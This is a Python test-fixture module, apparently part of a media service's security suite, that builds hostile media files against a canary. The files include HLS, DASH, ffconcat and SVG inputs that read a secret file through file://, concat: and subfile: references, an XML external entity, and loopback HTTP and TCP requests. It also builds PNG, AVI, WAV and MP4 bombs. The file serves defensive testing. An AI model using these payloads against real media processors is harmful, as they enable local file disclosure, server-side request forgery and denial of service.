"""Hostile inputs, built byte by byte.

Each maker gets the canary and a playable file in the watched tree; the inputs refer to it in every
way that a media file can name another one, or are bombs.
"""

import struct
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.security.canary import Canary

Maker = Callable[[Canary, Path], bytes]


def _text(template: str) -> Maker:
    def make(canary: Canary, media: Path) -> bytes:
        return (
            template.replace("{secret}", str(canary.secret))
            .replace("{media}", str(media))
            .replace("{tree}", str(canary.tree))
            .replace("{port}", str(canary.port))
            .encode()
        )

    return make


HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{0}\n#EXT-X-ENDLIST\n"
DASH = """<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S"
 profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">
<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1000">
<BaseURL>{0}</BaseURL></Representation></AdaptationSet></Period></MPD>
"""


def _box(kind: bytes, *content: bytes) -> bytes:
    body = b"".join(content)
    return struct.pack(">I", 8 + len(body)) + kind + body


def _reference_movie(canary: Canary, media: Path) -> bytes:
    """Return a QuickTime reference movie: `rmra` names another file."""
    url = f"file://{media}\0".encode()
    reference = _box(b"rdrf", struct.pack(">I", 0), b"url ", struct.pack(">I", len(url)), url)
    return _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(
        b"moov", _box(b"rmra", _box(b"rmda", reference))
    )


def _external_track(canary: Canary, media: Path) -> bytes:
    """Return a movie with its samples in another file (`dref` with an external URL)."""
    url = _box(b"url ", b"\0\0\0\0", f"file://{media}\0".encode())
    dref = _box(b"dref", b"\0\0\0\0\0\0\0\1", url)
    entry = _box(
        b"avc1", b"\0" * 6 + b"\0\1" + b"\0" * 16 + struct.pack(">HH", 320, 180) + b"\0" * 50
    )
    table = _box(
        b"stbl",
        _box(b"stsd", b"\0\0\0\0\0\0\0\1", entry),
        _box(b"stts", struct.pack(">IIII", 0, 1, 1, 1)),
        _box(b"stsc", struct.pack(">IIIII", 0, 1, 1, 1, 1)),
        _box(b"stsz", struct.pack(">IIII", 0, 0, 1, 100)),
        _box(b"stco", struct.pack(">III", 0, 1, 0)),
    )
    handler = _box(b"hdlr", b"\0" * 4 + b"mhlr" + b"vide" + b"\0" * 13)
    media = _box(
        b"mdia",
        _box(b"mdhd", b"\0" * 12 + struct.pack(">II", 25, 25) + b"\0" * 4),
        handler,
        _box(b"minf", _box(b"vmhd", b"\0" * 12), _box(b"dinf", dref), table),
    )
    track = _box(b"trak", _box(b"tkhd", b"\0\0\0\7" + b"\0" * 80), media)
    head = _box(b"mvhd", b"\0" * 12 + struct.pack(">II", 25, 25) + b"\0" * 80)
    return _box(b"ftyp", b"qt  \0\0\0\0qt  ") + _box(b"moov", head, track)


def _png(width: int, height: int, *chunks: tuple[bytes, bytes], rows: int = 1) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    pixels = zlib.compress(bytes((1 + width * 3) * rows), 9)
    extra = b"".join(chunk(kind, data) for kind, data in chunks)
    return b"\x89PNG\r\n\x1a\n" + header + extra + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _text_bomb(canary: Canary, media: Path) -> bytes:
    """Return a PNG of 16 x 16 with a comment that inflates to 60 MB."""
    bomb = zlib.compressobj(9)
    data = b"".join(bomb.compress(bytes(1 << 20)) for _ in range(60)) + bomb.flush()
    return _png(16, 16, (b"zTXt", b"a\0\0" + data), rows=16)


def _gab2(canary: Canary, media: Path) -> bytes:
    """Return an AVI with a playlist in its subtitle track."""
    playlist = HLS.replace("{0}", f"file://{media}").encode()
    gab2 = b"GAB2\0\2\0" + struct.pack("<I", 2) + b"a\0" + struct.pack("<HI", 4, len(playlist))
    data = gab2 + playlist + b"\0" * (len(playlist) % 2)

    def chunk(kind: bytes, body: bytes) -> bytes:
        return kind + struct.pack("<I", len(body)) + body

    avih = struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 1, 0, 320, 180, 0, 0, 0, 0)
    strh = b"txts" + b"\0" * 16 + struct.pack("<IIIIIIII", 1, 25, 0, 1, 0, 0, 0, 0)
    header = chunk(b"LIST", b"strl" + chunk(b"strh", strh) + chunk(b"strf", b""))
    headers = chunk(b"LIST", b"hdrl" + chunk(b"avih", avih) + header)
    movie = chunk(b"LIST", b"movi" + chunk(b"00tx", data))
    return chunk(b"RIFF", b"AVI " + headers + movie)


def _many_streams(canary: Canary, media: Path) -> bytes:
    """Return an AVI that declares 3000 streams."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return kind + struct.pack("<I", len(body)) + body

    avih = struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 3000, 0, 320, 180, 0, 0, 0, 0)
    strh = b"vidsMJPG" + b"\0" * 12 + struct.pack("<IIIIIIII", 1, 25, 0, 1, 0, 0, 0, 0)
    strf = struct.pack("<IiiHH4sIiiII", 40, 320, 180, 1, 24, b"MJPG", 0, 0, 0, 0, 0)
    one = chunk(b"LIST", b"strl" + chunk(b"strh", strh) + chunk(b"strf", strf))
    headers = chunk(b"LIST", b"hdrl" + chunk(b"avih", avih) + one * 3000)
    return chunk(b"RIFF", b"AVI " + headers + chunk(b"LIST", b"movi"))


def _lying_wav(canary: Canary, media: Path) -> bytes:
    """Return a WAV that declares 2 GHz and 4 GB."""
    form = struct.pack("<HHIIHH", 1, 2, 2_000_000_000, 0xFFFFFFFF, 4, 16)
    return b"RIFF\xff\xff\xff\xffWAVEfmt " + struct.pack("<I", 16) + form + b"data\xff\xff\xff\xff"


def _gap(canary: Canary, media: Path) -> bytes:
    """Return a Y4M of two frames at one frame per 1000 hours."""
    frame = b"FRAME\n" + bytes(16 * 16 * 3 // 2)
    return b"YUV4MPEG2 W16 H16 F1:3600000 Ip A1:1 C420\n" + frame * 2


CRAFTED: dict[str, Maker] = {
    "hls file": _text(HLS.replace("{0}", "file://{media}")),
    "hls absolute path": _text(HLS.replace("{0}", "{media}")),
    "hls secret": _text(HLS.replace("{0}", "file://{secret}")),
    "hls relative": _text(HLS.replace("{0}", "input")),
    "hls http": _text(HLS.replace("{0}", "http://127.0.0.1:{port}/a.ts")),
    "hls tcp": _text(HLS.replace("{0}", "tcp://127.0.0.1:{port}")),
    "hls concat": _text(HLS.replace("{0}", "concat:{secret}|{media}")),
    "hls subfile": _text(HLS.replace("{0}", "subfile,,start,0,end,64,,:{secret}")),
    "hls crypto": _text(HLS.replace("{0}", "crypto+file:{media}")),
    "hls key": _text(
        '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="file://{secret}"\n'
        "#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile://{media}\n#EXT-X-ENDLIST\n"
    ),
    "hls map": _text(
        '#EXTM3U\n#EXT-X-MAP:URI="file://{media}"\n#EXT-X-TARGETDURATION:9\n'
        "#EXTINF:9,\nfile://{media}\n#EXT-X-ENDLIST\n"
    ),
    "hls master": _text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://127.0.0.1:{port}/x.m3u8\n"),
    "hls behind ID3": lambda c, f: (
        b"ID3\x04\0\0\0\0\0\0" + _text(HLS.replace("{0}", "file://{media}"))(c, f)
    ),
    "hls with BOM": _text("\ufeff" + HLS.replace("{0}", "file://{media}")),
    "dash file": _text(DASH.replace("{0}", "file://{media}")),
    "dash http": _text(DASH.replace("{0}", "http://127.0.0.1:{port}/a.mp4")),
    "dash external entity": _text(
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
        + DASH.partition("\n")[2].replace("{0}", "&e;")
    ),
    "ffconcat absolute": _text("ffconcat version 1.0\nfile '{media}'\n"),
    "ffconcat sibling": _text("ffconcat version 1.0\nfile input\nfile input\n"),
    "ffconcat url": _text("ffconcat version 1.0\nfile http://127.0.0.1:{port}/x\n"),
    "ffconcat options": _text("ffconcat version 1.0\nfile '{media}'\noption safe 0\n"),
    "concat protocol": _text("concat:{secret}|{media}"),
    "subfile protocol": _text("subfile,,start,0,end,9,,:{secret}"),
    "data url": _text("data:video/mp4;base64,AAAA"),
    "sdp": _text(
        "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
        "m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
    ),
    "imf": _text(
        '<?xml version="1.0"?><CompositionPlaylist xmlns='
        '"http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:0</Id>'
        "<AssetMap>file://{secret}</AssetMap></CompositionPlaylist>"
    ),
    "svg": _text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' width="9" height="9"><image xlink:href="file://{secret}"/></svg>'
    ),
    "smil": _text('<smil><body><video src="http://127.0.0.1:{port}/x"/></body></smil>'),
    "asx": _text('<asx version="3.0"><entry><ref href="http://127.0.0.1:{port}/"/></entry></asx>'),
    "pls": _text("[playlist]\nFile1=file://{media}\nNumberOfEntries=1\n"),
    "cue": _text('FILE "{media}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n'),
    "rtsp reference": _text("RTSPtext\r\nrtsp://127.0.0.1:{port}/x\r\n"),
    "real reference": _text("rtsp://127.0.0.1:{port}/x\nfile://{media}\n"),
    "avisynth": _text('AVISource("{media}")\n'),
    "vapoursynth": _text("open('{secret}').read()\n"),
    "lavfi": _text("movie=filename={media}\n"),
    "ffmetadata": _text(";FFMETADATA1\ntitle=file://{secret}\n"),
    "vobsub": _text(
        "# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n"
    ),
    "image pattern": _text("{tree}/%03d.png"),
    "webvtt": _text("WEBVTT\n\n00:00.000 --> 00:01.000\n<img src=file://{secret}>\n"),
    "ass": _text(
        "[Script Info]\nVideo File: {media}\n[Events]\n"
        "Dialogue: 0,0:00:00.00,0:00:01.00,Default,,0,0,0,,{\\fn../../x}text\n"
    ),
    "reference movie": _reference_movie,
    "external track": _external_track,
    "gab2": _gab2,
    "xbin": lambda c, f: b"XBIN\x1a" + bytes(200),
    "png of 16000 x 16000": lambda c, f: _png(16000, 16000, rows=200),
    "png of 2^31": lambda c, f: _png(2**31 - 1, 2**31 - 1, rows=0),
    "png text bomb": _text_bomb,
    "gif of 65535 x 65535": lambda c, f: (
        b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\2\2D\1\0;"
    ),
    "bmp of 60000 x 60000": lambda c, f: (
        b"BM" + struct.pack("<IIIIiiHHIIiiII", 99, 0, 54, 40, 60000, 60000, 1, 24, 0, 0, 0, 0, 0, 0)
    ),
    "y4m of 99999 x 99999": lambda c, f: (
        b"YUV4MPEG2 W99999 H99999 F25:1 Ip A1:1 C420\nFRAME\n" + bytes(999)
    ),
    "y4m with a gap": _gap,
    "avi of 3000 streams": _many_streams,
    "wav that lies": _lying_wav,
    "moov of 4 GB": lambda c, f: _box(b"ftyp", b"isomiso2") + b"\xff\xff\xff\xffmoov" + bytes(999),
    "boxes in boxes": lambda c, f: (
        _box(b"ftyp", b"isom")
        + b"".join(struct.pack(">I", 8 * (4000 - depth)) + b"moov" for depth in range(4000))
    ),
    "cut in the middle": lambda c, f: f.read_bytes()[: f.stat().st_size // 2],
    "noise in the middle": lambda c, f: (
        f.read_bytes()[:9000] + bytes(range(256)) * 40 + f.read_bytes()[19000:]
    ),
    "zeros": lambda c, f: bytes(100_000),
    "nothing": lambda c, f: b"",
}
# damaged or unusual media, which may be converted
MAY_COMPLETE = {
    "png text bomb",
    "noise in the middle",
    "y4m with a gap",
    "ass",
    "webvtt",
    "wav that lies",
}
